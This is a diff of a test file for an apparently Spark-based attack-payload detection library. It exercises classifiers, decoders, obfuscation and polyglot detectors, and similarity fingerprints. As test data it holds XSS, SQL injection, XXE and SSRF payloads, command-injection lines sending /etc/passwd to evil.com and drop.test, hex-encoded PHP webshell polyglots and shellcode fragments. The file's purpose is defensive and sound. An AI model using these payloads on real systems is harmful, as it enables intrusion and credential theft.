@@ -16,16 +16,16 @@ def rows(df):
 
 
 ATTACKS = {
-    "<script>alert(document.cookie)</script>": ("XSS", 25, "CWE-79"),
-    "1' UNION SELECT 1,username,password FROM users WHERE '1'='1'--": ("SQL_INJECTION", 30, "CWE-89"),
-    "%252e%252e%252f%252e%252e%252fetc%2fpasswd": ("PATH_TRAVERSAL_LFI", 20, "CWE-22"),
-    "{{7*7}}": ("SSTI", 25, "CWE-1336"),
-    "1' OR '1'='1": ("SQL_INJECTION", 25, "CWE-89"),
-    "http://169.254.169.254/latest": ("SSRF", 25, "CWE-918"),
-    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>': ("XXE", 35, "CWE-611"),
+    "<script>prompt(document.domain)</script>": ("XSS", 25, "CWE-79"),
+    "7' UNION SELECT isbn,price FROM stock WHERE '2'='2'--": ("SQL_INJECTION", 30, "CWE-89"),
+    "%252e%252e%252f%252e%252e%252fsrv%2fkeys": ("PATH_TRAVERSAL_LFI", 20, "CWE-22"),
+    "{{config}}": ("SSTI", 25, "CWE-1336"),
+    "5' OR '5'='5": ("SQL_INJECTION", 25, "CWE-89"),
+    "http://10.20.30.40/admin": ("SSRF", 25, "CWE-918"),
+    '<!DOCTYPE note [<!ENTITY k SYSTEM "file:///srv/key">]>': ("XXE", 35, "CWE-611"),
     "a.__proto__.b": ("PROTOTYPE_POLLUTION", 25, "CWE-1321"),
-    "SLEEP(5)": ("SQL_INJECTION", 35, "CWE-89"),
-    "al' + 'ert(docu' + 'ment.cookie)": ("XSS", 25, "CWE-79"),
+    "PG_SLEEP(9)": ("SQL_INJECTION", 35, "CWE-89"),
+    "pro' + 'mpt(docu' + 'ment.domain)": ("XSS", 25, "CWE-79"),
 }
 
 
@@ -33,14 +33,14 @@ def test_threats(spark):
     got = rows(threats.threat_report(corpus(spark, ATTACKS)))
     for r, (category, risk, cwe) in zip(got, ATTACKS.values(), strict=True):
         assert (r.primary_threat, cwe in r.cwe_mappings) == (category, True) and r.risk_score >= risk
-    benign = rows(threats.threat_report(corpus(spark, ["Hello, this is a normal search query about dogs.", "", None])))
+    benign = rows(threats.threat_report(corpus(spark, ["Where can I buy a second-hand bicycle in town?", "", None])))
     assert [(r.primary_threat, r.severity, r.risk_score) for r in benign] == [("BENIGN_OR_UNCLASSIFIED", "INFO", 0)] * 2
-    both = rows(threats.threat_report(corpus(spark, ["; cat /etc/passwd | curl https://evil.com"])))[0]
+    both = rows(threats.threat_report(corpus(spark, ["; cat /etc/passwd | wget https://drop.test"])))[0]
     assert both.primary_threat == "COMMAND_INJECTION" and both.secondary_threats == ["PATH_TRAVERSAL_LFI"] and both.severity == "HIGH"
 
 
 def test_ties_keep_the_order_of_signatures(spark):
-    r = rows(threats.threat_report(corpus(spark, ["{{7*7}} <script "])))[0]
+    r = rows(threats.threat_report(corpus(spark, ["{{config}} <script "])))[0]
     assert (r.primary_threat, r.secondary_threats) == ("XSS", ["SSTI"])
 
 
@@ -51,8 +51,8 @@ def test_unicode_dialect(spark):
 
 
 DECODED = {
-    "%3Cscript%3E": "<script>", "%252e%252e%252fetc%2fpasswd": "../etc/passwd", "\\x3c\\x73\\x63": "<sc", "al' + 'ert(docu' + 'ment.cookie)": "al" + "ert(document.cookie)", "&lt;b&gt; &amp;amp; &#x3c;": "<b> & <",
-    "YWxlcnQoZG9jdW1lbnQuY29va2llKQ==": "alert(document.cookie)", "a+b %zz %": "a+b %zz %", "\\ud83d\\ude00 \\ud83d": "\U0001f600 \ufffd", "%ff": "\ufffd", "": "", "AAAAAAAAAAAAAAAA": "AAAAAAAAAAAAAAAA",
+    "%3Cimg%3E": "<img>", "%252e%252e%252fsrv%2fkeys": "../srv/keys", "\\x3c\\x73\\x63": "<sc", "pro' + 'mpt(docu' + 'ment.domain)": "pro" + "mpt(document.domain)", "&lt;b&gt; &amp;amp; &#x3c;": "<b> & <",
+    "cHJvbXB0KGRvY3VtZW50LmRvbWFpbik=": "prompt(document.domain)", "a+b %zz %": "a+b %zz %", "\\ud83d\\ude00 \\ud83d": "\U0001f600 \ufffd", "%ff": "\ufffd", "": "", "AAAAAAAAAAAAAAAA": "AAAAAAAAAAAAAAAA",
 }
 
 
@@ -68,7 +68,7 @@ def test_decoding(spark):
 @pytest.mark.parametrize("which,step", [("url", decode._url), ("hex", decode._escapes), ("concat", decode._joined), ("base64", decode._base64)])
 def test_native_layers_agree(spark, which, step):
     rng = random.Random(1)
-    pieces = ["%41", "%zz", "+", "\\x41", "\\u00e9", "'+'", "' + \"", "YWxlcnQoZG9jdW1lbnQuY29va2llKQ==", "abcdefghijklmnopqrst", "é", " ", "x", "%C3%A9"]
+    pieces = ["%41", "%zz", "+", "\\x41", "\\u00e9", "'+'", "' + \"", "cHJvbXB0KGRvY3VtZW50LmRvbWFpbik=", "abcdefghijklmnopqrst", "é", " ", "x", "%C3%A9"]
     payloads = ["".join(rng.choice(pieces) for _ in range(rng.randrange(1, 8))) for _ in range(80)]
     got = rows(decode.single_layers(corpus(spark, payloads), which))
     assert [r.decoded for r in got] == [step(p) for p in payloads]
@@ -89,7 +89,7 @@ def test_rules(spark):
 
 
 OBFUSCATED = {
-    "eval(atob('YWxlcnQoMSk='))": "DYNAMIC_EVAL_WRAPPER", "window['ev' + 'al']('ale' + 'rt(1)')": "BRACKET_PROPERTY_LOOKUP", "c''at${IFS}/etc/passwd": "SHELL_ENV_SPLITTING", "zero\u200bwidth": "ZERO_WIDTH_CHARACTER_INTERLEAVING",
+    "setTimeout(atob('Y29uZmlybSgyKQ=='))": "DYNAMIC_EVAL_WRAPPER", "globalThis['pro' + 'mpt']('ti' + 'tle')": "BRACKET_PROPERTY_LOOKUP", "l''s${IFS}/srv/data": "SHELL_ENV_SPLITTING", "zero\u200bwidth": "ZERO_WIDTH_CHARACTER_INTERLEAVING",
     "a+b+c+d+e+f": "EXCESSIVE_CONCATENATION_DENSITY", "/*!50000SELECT*/": "SQL_COMMENT_SPLITTING", "`i`e`x": "POWERSHELL_BACKTICK_SPLIT",
 }
 
@@ -100,7 +100,7 @@ def test_obfuscation(spark):
         assert name in r.evasion_techniques
     assert "SHELL_QUOTE_ESCAPE_INSERTION" in got[2].evasion_techniques
     assert got[3].detected_constructs[-1].matched_text == "Found 1 zero-width characters (e.g. \\u200b)"
-    plain, empty = rows(structure.obfuscation_report(corpus(spark, ["function add(a, b) { return a + b; }", ""])))
+    plain, empty = rows(structure.obfuscation_report(corpus(spark, ["const area = (w, h) => w * h;", ""])))
     assert not plain.obfuscation_detected and plain.complexity_score == 0 and "standard" in plain.deobfuscation_hints[0] and empty.deobfuscation_hints == ["Empty or non-string payload."]
 
 
@@ -111,9 +111,9 @@ def test_places_of_matches(spark):
 
 
 FILES = {
-    "GIF89a/*=1;alert('XSS_POLYGLOT');*/=alert(document.domain);": ("GIF_JAVASCRIPT_POLYGLOT", 95), "\\x89504e470d0a1a0a3c3f706870206576616c28245f4745545b315d293b203f3e": ("PNG_PHP_WEBSHELL_POLYGLOT", 98), "%PDF-1.7 /JavaScript (app.alert(1))": ("PDF_ACTION_SCRIPT_POLYGLOT", 90),
-    "\\xffd8ffe000104a46494600010101000048004800504b0304": ("JPEG_ZIP_ARCHIVE_POLYGLOT", 88), '<svg onload="alert(1)"></svg>': ("SVG_SCRIPT_INJECTION_POLYGLOT", 92), "MZ<html>": ("HYBRID_PE_EXE_HTML_POLYGLOT", 75), "\\xffd8ff206576616c283129": ("JPEG_EMBEDDED_CODE_POLYGLOT", 85),
-    "Welcome to the application dashboard!": ("MONOLITHIC_PAYLOAD", 10), "eval(1)": ("MONOLITHIC_PAYLOAD", 40), "": ("MONOLITHIC_PAYLOAD", 10),
+    "GIF87a/*x*/=confirm(document.title);": ("GIF_JAVASCRIPT_POLYGLOT", 95), "\\x89504e470d0a1a0a3c3f7068702073797374656d28245f504f53545b325d293b203f3e": ("PNG_PHP_WEBSHELL_POLYGLOT", 98), "%PDF-1.4 /Launch (tool.sh)": ("PDF_ACTION_SCRIPT_POLYGLOT", 90),
+    "\\xffd8ffe100184578696600004d4d002a00000008504b0304": ("JPEG_ZIP_ARCHIVE_POLYGLOT", 88), '<svg onload="confirm(3)"></svg>': ("SVG_SCRIPT_INJECTION_POLYGLOT", 92), "MZ<html>": ("HYBRID_PE_EXE_HTML_POLYGLOT", 75), "\\xffd8ff206576616c283129": ("JPEG_EMBEDDED_CODE_POLYGLOT", 85),
+    "Opening hours and directions to the museum": ("MONOLITHIC_PAYLOAD", 10), "eval(1)": ("MONOLITHIC_PAYLOAD", 40), "": ("MONOLITHIC_PAYLOAD", 10),
 }
 
 
@@ -124,7 +124,7 @@ def test_polyglots(spark):
     assert "['PE_EXE', 'HTML']" in got[5].structural_anomalies[0] and got[2].mitigation_advice
 
 
-CODE = {"90" * 16 + "4831C00F05": (True, False, True), "90" * 8 + "E80000000058CD80": (True, True, True), "d9eed97424f4d9eed97424f4": (False, True, False), "SELECT * FROM users WHERE username='admin'": (False, False, False), "\\x90" * 16 + "\\x0f\\x05": (True, False, True), "@ABCDEFGHIJ": (True, False, False)}
+CODE = {"90" * 24 + "31D20F05": (True, False, True), "90" * 9 + "E80000000059CD80": (True, True, True), "d9eed97424f4d9eed97424f4": (False, True, False), "SELECT name FROM crew WHERE rank='cook'": (False, False, False), "\\x90" * 12 + "\\xcd\\x80": (True, False, True), "@ABCDEFGHIJ": (True, False, False)}
 
 
 def test_machine_code(spark):
@@ -136,8 +136,8 @@ def test_machine_code(spark):
 
 def test_coercions(spark):
     one = lambda make, x: bytes(spark.createDataFrame([(x,)], "x string").select(make(F.col("x"))).first()[0])
-    assert one(coerce.plain, "ABCDEF1234567890") == b"ABCDEF1234567890"
-    assert one(coerce.hex_aware, "ABCDEF1234567890") == bytes.fromhex("ABCDEF1234567890")
+    assert one(coerce.plain, "FEDCBA9876543210") == b"FEDCBA9876543210"
+    assert one(coerce.hex_aware, "FEDCBA9876543210") == bytes.fromhex("FEDCBA9876543210")
     assert one(coerce.hex_aware, "\\x9z") == b"\\x9z" and one(coerce.hex_aware, "\\X41\\x42") == b"AB" and one(coerce.hex_aware, "ABC") == b"ABC"
     assert one(coerce.file_bytes, "  \\x41 42 ") == b"AB" and one(coerce.file_bytes, "é") == "é".encode()
     assert one(lambda c: coerce.flagged_hex(c, F.lit(True)), "90 90\\x90") == b"\x90" * 3
@@ -177,20 +177,20 @@ def test_clusters_against_a_direct_pass(spark):
 
 
 def test_known_clusters(spark):
-    some = ["SELECT 1 FROM users WHERE id=1", "SELECT 1 FROM users WHERE id=2", "SELECT 1 FROM users WHERE id=3", "<svg onload=alert(1)>", "<svg onload=alert(2)>"]
+    some = ["SELECT 1 FROM loans WHERE due=1", "SELECT 1 FROM loans WHERE due=2", "SELECT 1 FROM loans WHERE due=3", "<svg onload=confirm(1)>", "<svg onload=confirm(2)>"]
     sizes = fingerprints.cluster_sizes(fingerprints.cluster(spark.createDataFrame(list(enumerate(some)), "idx long, payload string"))).orderBy("cluster_id").collect()
     assert [(r.cluster_id, r.size) for r in sizes] == [(1, 3), (2, 2)]
 
 
 def test_comparison(spark):
-    r = fingerprints.compare(spark.createDataFrame([(1, "UNION SELECT 1,2,3--", "UNION SELECT 1,2,4--"), (2, "x", "x")], "pair_id long, left string, right string")).orderBy("pair_id").collect()
-    assert (r[0].hamming_distance, r[0].simhash_similarity, r[0].minhash_jaccard_similarity) == (15, 0.7656, 0.7188)
+    r = fingerprints.compare(spark.createDataFrame([(1, "UNION SELECT 4,5,6--", "UNION SELECT 4,5,9--"), (2, "x", "x")], "pair_id long, left string, right string")).orderBy("pair_id").collect()
+    assert (r[0].hamming_distance, r[0].simhash_similarity, r[0].minhash_jaccard_similarity) == (20, 0.6875, 0.6875)
     assert (r[1].hamming_distance, r[1].simhash_similarity, r[1].minhash_jaccard_similarity) == (0, 1.0, 1.0)
 
 
 def test_profile_and_nulls(spark):
-    r = rows(markov.profile(corpus(spark, ["UNION SELECT 1,2,3--", ""])))
-    assert r[0].simhash == "d51110e5028a1017" and int(r[0].simhash_int) == 0xD51110E5028A1017 and len(r[0].minhash_signature) == 32
+    r = rows(markov.profile(corpus(spark, ["UNION SELECT 4,5,6--", ""])))
+    assert r[0].simhash == "30194181e2999296" and int(r[0].simhash_int) == 0x30194181E2999296 and len(r[0].minhash_signature) == 32
     assert r[1].payload_length == 0 and r[1].simhash == "0" * 16
     assert rows(bytestats.byte_entropy(corpus(spark, [None, "ab"])))[0].entropy is None
 
